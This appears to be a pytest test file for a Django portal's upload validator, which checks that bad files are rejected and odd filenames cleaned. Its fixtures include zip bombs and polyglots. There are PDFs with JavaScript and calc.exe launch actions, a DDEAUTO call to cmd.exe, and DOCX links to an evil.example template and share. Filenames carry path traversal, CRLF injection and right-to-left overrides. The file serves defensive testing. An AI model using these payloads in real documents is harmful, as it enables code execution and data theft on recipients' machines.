"""Bad files, each with its own sentence: bombs, two files in one, what runs or fetches something, odd names."""

import io
import struct
import zipfile
import zlib

import pypdf
import pytest
from django.core.exceptions import ValidationError

from portal.base.archives import MOST_MEMBERS, ArchiveProblem, check_size
from portal.base.filenames import clean_name
from portal.base.files import CONTENT_TYPES, FileRule, inspect
from portal.base.pdf_checking import PdfProblem, check_pdf
from tests.base.papers import JPEG, OLE, PDF, PNG, office, open_document, pdf_of, picture, sent, workbook, zipped

EVERYTHING = FileRule(kinds=tuple(CONTENT_TYPES))
WORD = "wordprocessingml.document.main+xml"
EXCEL = "spreadsheetml.sheet.main+xml"
TYPES = {"[Content_Types].xml": f'<Override ContentType="application/x.{WORD}"/>'.encode()}
SHEETS = {"[Content_Types].xml": f'<Override ContentType="application/x.{EXCEL}"/>'.encode()}
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    '{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def linked(kind: str, target: str) -> bytes:
    """A document with a relation to something outside of it."""
    return zipped(**TYPES, **{"word___rels__document.xml.rels": RELATION.format(kind=kind, target=target).encode()})


def with_trailing_zip(front: bytes) -> bytes:
    """What two programs read as two files."""
    memory = io.BytesIO(front)
    with zipfile.ZipFile(memory, "a") as archive:
        archive.writestr("run.exe", b"MZ")
    return memory.getvalue()


def with_size_of(member: str, said: int, **members: bytes) -> bytes:
    """A zip whose list of contents says another size of a member than it has."""
    content = bytearray(zipped(**members))
    place = content.rindex(member.encode()) - 46  # the head of its entry in the list at the end
    assert content[place : place + 4] == b"PK\x01\x02"
    struct.pack_into("<L", content, place + 24, said)
    return bytes(content)


def locked_pdf(password: str) -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(PDF))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    memory = io.BytesIO()
    writer.write(memory)
    return memory.getvalue()


def packed_pdf(hidden: bytes) -> bytes:
    """A PDF whose object 4 stands compressed in a stream of objects, where no search for words finds it."""
    inner = b"4 0 " + hidden
    stream = zlib.compress(inner)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>",
    ]
    content, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj%s endobj\n" % (number, one)
    container = len(content)
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(stream)
    content += b"5 0 obj" + head + b"stream\n" + stream + b"\nendstream endobj\n"
    start = len(content)
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 5, 0), (1, container, 0), (1, start, 0)]
    table = zlib.compress(b"".join(struct.pack(">BHB", *row) for row in rows))
    head = b"<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    content += b"6 0 obj" + head + b"stream\n" + table + b"\nendstream endobj\n"
    return content + b"startxref\n%d\n%%%%EOF\n" % start


BAD = [
    # bombs
    ("x.docx", zipped(**TYPES, word__document=b"\0" * 20_000_000), "bomb"),
    ("x.xlsx", zipped(**SHEETS, **{f"xl__{n}": b"\0" * 9_000_000 for n in range(40)}), "bomb"),
    ("x.ods", zipped(mimetype=b"application/vnd.oasis.opendocument.spreadsheet", content=b" " * 30_000_000), "bomb"),
    ("x.docx", with_size_of("word/a", 100, **TYPES, word__a=b"\0" * 1_000_000), "bomb"),  # the list lies
    ("x.docx", with_size_of("word/a", 2000, **TYPES, word__a=b"\0" * 1_000), "damaged"),
    ("x.png", picture("PNG").replace(b"\0\0\0\1\0\0\0\1", b"\0\1\0\0\0\1\0\0", 1), "damaged"),  # its own sum is wrong
    # two files in one
    ("x.pdf", with_trailing_zip(PDF), "polyglot"),
    ("x.jpg", with_trailing_zip(JPEG), "polyglot"),
    ("x.txt", b"notes\n" + PDF, "polyglot"),
    ("x.png", PNG[:60] + PDF, "polyglot"),
    ("x.pdf", b"\n\n" + PDF, "mismatch"),  # a head that is not at the beginning
    ("x.pdf", b"MZ" + PDF, "mismatch"),
    ("x.png", b"GIF89a/*\x01\x00*/=1;alert(1)", "mismatch"),  # a picture and a script
    ("x.jpg", b"<script>alert(1)</script>", "mismatch"),
    # PDFs
    ("x.pdf", pdf_of(SCRIPT, catalog=b"/OpenAction 4 0 R"), "scripts"),
    ("x.pdf", pdf_of(b"<</S/J#61vaScript/J#53(1)>>", catalog=b"/OpenAction 4 0 R"), "scripts"),
    ("x.pdf", pdf_of(b"<</S 5 0 R>>", b"/JavaScript", catalog=b"/OpenAction 4 0 R"), "scripts"),
    ("x.pdf", pdf_of(page=b"/AA<</O" + SCRIPT + b">>"), "scripts"),
    ("x.pdf", pdf_of(SCRIPT), "scripts"),  # nothing leads to it; a reader may all the same
    ("x.pdf", packed_pdf(SCRIPT), "scripts"),
    ("x.pdf", pdf_of(catalog=b"/AcroForm<</XFA[]/Fields[]>>"), "scripts"),
    ("x.pdf", pdf_of(page=b"/Annots[<</Subtype/Link/A<</S/Launch/F(calc.exe)>>>>]"), "actions"),
    ("x.pdf", pdf_of(page=b"/AA<</O<</S/SubmitForm/F(http://x)>>>>"), "actions"),
    ("x.pdf", packed_pdf(b"<</S/Launch/F(calc.exe)>>"), "actions"),
    ("x.pdf", pdf_of(b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"), "embedded"),
    ("x.pdf", pdf_of(b"<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"), "embedded"),
    ("x.pdf", locked_pdf("secret"), "encrypted"),
    ("x.pdf", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "damaged"),
    ("x.pdf", b"%PDF-1.7\n" + b"\0" * 1000, "damaged"),
    ("x.pdf", PDF[: len(PDF) // 2], "damaged"),
    # documents and workbooks
    ("x.docx", office("ms-word.document.macroEnabled.main+xml"), "macros"),
    ("x.xlsx", office("ms-excel.sheet.macroEnabled.main+xml"), "macros"),
    ("x.docx", zipped(**TYPES, **{"word__vbaProject.bin": b"x"}), "macros"),
    (
        "x.odt",
        zipped(mimetype=b"application/vnd.oasis.opendocument.text", **{"Basic__Standard__M.xml": b"x"}),
        "macros",
    ),
    ("x.xls", OLE + "_VBA_PROJECT\0".encode("utf-16-le"), "macros"),
    ("x.docx", linked("attachedTemplate", "https://evil.example/t.dotm"), "links"),
    ("x.docx", linked("oleObject", "file:///C:/a.xlsx"), "links"),
    ("x.docx", linked("image", "\\\\evil.example\\share\\a.png"), "links"),
    ("x.docx", linked("frame", "file://evil.example/a"), "links"),
    ("x.docx", zipped(**TYPES, **{"word__document.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}), "links"),
    ("x.xlsx", zipped(**SHEETS, **{"xl__externalLinks__e.xml": b'<ddeLink ddeService="cmd"/>'}), "links"),
    ("x.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage\0".encode("utf-16-le"), "encrypted"),
    ("x.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument\0".encode("utf-16-le"), "mismatch"),
]
HARMLESS = [
    ("x.pdf", pdf_of(page=b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>>]")),
    ("x.pdf", pdf_of(catalog=b"/OpenAction[3 0 R/Fit]")),
    ("x.pdf", locked_pdf("")),  # opens without a password; only printing or copying was kept for the owner
    ("x.docx", linked("hyperlink", "https://example.org")),
    ("x.docx", linked("attachedTemplate", "file:///C:/Users/me/Normal.dotm")),
    ("x.xlsx", workbook([["name", "reason"]] + [["INDATUM", "the same words"]] * 20_000)),
    ("x.odt", open_document("text")),
    ("x.txt", b"DDE is a word, and so is JavaScript\n"),
]
NAMES = [
    ("plan.pdf", "plan.pdf"),
    ("../../etc/plan.pdf", "plan.pdf"),
    ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
    ("plan\r\nContent-Type: text/html.pdf", "html.pdf"),
    ("a\nb.pdf", "a b.pdf"),
    ("plan\0.pdf", "plan.pdf"),
    ("fdp.\u202efdp.exe", "fdp.fdp.exe"),  # would be read as fdp.exe.pdf
    ("pl\u200ban\ufeff.pdf", "plan.pdf"),
    ("a\u0308nsökan.pdf", "änsökan.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("lpt1", "_lpt1"),
    ("console.pdf", "console.pdf"),
    ('what? "this" <now>|*.pdf', "what_ _this_ _now___.pdf"),
    (" . plan.pdf. ", "plan.pdf"),
    ("a" * 300 + ".pdf", "a" * 196 + ".pdf"),
    ("å" * 300 + ".pdf", "å" * 98 + ".pdf"),
    ("a." + "b" * 300, "a." + "b" * 198),
    ("", "file"),
    (None, "file"),
    ("..", "file"),
]


@pytest.mark.parametrize(("name", "content", "code"), BAD)
def test_inspect_when_a_file_is_bad_then_its_own_sentence(name, content, code):
    uploaded = sent(name, content)
    with pytest.raises(ValidationError) as caught:
        inspect(uploaded, EVERYTHING)
    assert caught.value.code == code
    assert caught.value.messages[0].startswith(f"‘{name}’ ")
    assert "%(" not in caught.value.messages[0]


@pytest.mark.parametrize(("name", "content"), HARMLESS)
def test_inspect_when_a_file_only_looks_odd_then_is_taken(name, content):
    uploaded = sent(name, content)
    assert inspect(uploaded, EVERYTHING).size == len(content)
    assert uploaded.read() == content


@pytest.mark.parametrize(("raw", "clean"), NAMES)
def test_clean_name_when_it_is_odd_then_is_made_fit_for_every_disk(raw, clean):
    assert clean_name(raw) == clean
    assert clean_name(clean) == clean


def test_inspect_when_the_name_is_odd_then_the_clean_one_is_kept():
    uploaded = sent("x.pdf", PDF)
    uploaded._name = "a/../b\r\n\u202e" + "c" * 300 + ".PDF"
    name = inspect(uploaded, EVERYTHING).name
    assert name.startswith("b ccc")
    assert name.endswith(".PDF")
    assert len(name) == 200


def test_check_size_when_there_are_too_many_members_then_a_bomb():
    with pytest.raises(ArchiveProblem) as caught:
        check_size(io.BytesIO(zipped(**{f"m{n}": b"" for n in range(MOST_MEMBERS + 1)})))
    assert caught.value.code == "bomb"


def test_check_size_when_locked_then_told_so():
    content = bytearray(zipped(word=b"text"))
    content[content.index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(ArchiveProblem) as caught:
        check_size(io.BytesIO(content))
    assert caught.value.code == "encrypted"


@pytest.mark.parametrize("change", [(b"PK\x03\x04", b"PK\x09\x09"), (b"\x08\x00", b"\x0e\x00")])
def test_check_size_when_heads_do_not_agree_then_damaged(change):
    content = zipped(a=b"text" * 100)
    front, behind = content.split(b"PK\x01\x02", 1)
    broken = front.replace(*change, 1) + b"PK\x01\x02" + behind.replace(*change, 1)
    with pytest.raises(ArchiveProblem) as caught:
        check_size(io.BytesIO(broken))
    assert caught.value.code == "damaged"


def test_check_pdf_when_it_has_more_objects_than_anybody_writes_then_a_bomb(monkeypatch):
    monkeypatch.setattr("portal.base.pdf_checking.MOST_OBJECTS", 2)
    with pytest.raises(PdfProblem) as caught:
        check_pdf(io.BytesIO(PDF))
    assert caught.value.code == "bomb"


def test_check_pdf_when_it_takes_too_long_then_a_bomb(monkeypatch):
    monkeypatch.setattr("portal.base.pdf_checking.MOST_SECONDS", -1)
    with pytest.raises(PdfProblem) as caught:
        check_pdf(io.BytesIO(PDF))
    assert caught.value.code == "bomb"


def test_inspect_when_a_picture_is_wider_than_any_screen_then_a_bomb():
    head = b"IHDR" + struct.pack(">LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    wide = PNG[:8] + struct.pack(">L", 13) + head + struct.pack(">L", zlib.crc32(head)) + PNG[33:]
    with pytest.raises(ValidationError) as caught:
        inspect(sent("x.png", wide), EVERYTHING)
    assert caught.value.code == "bomb"
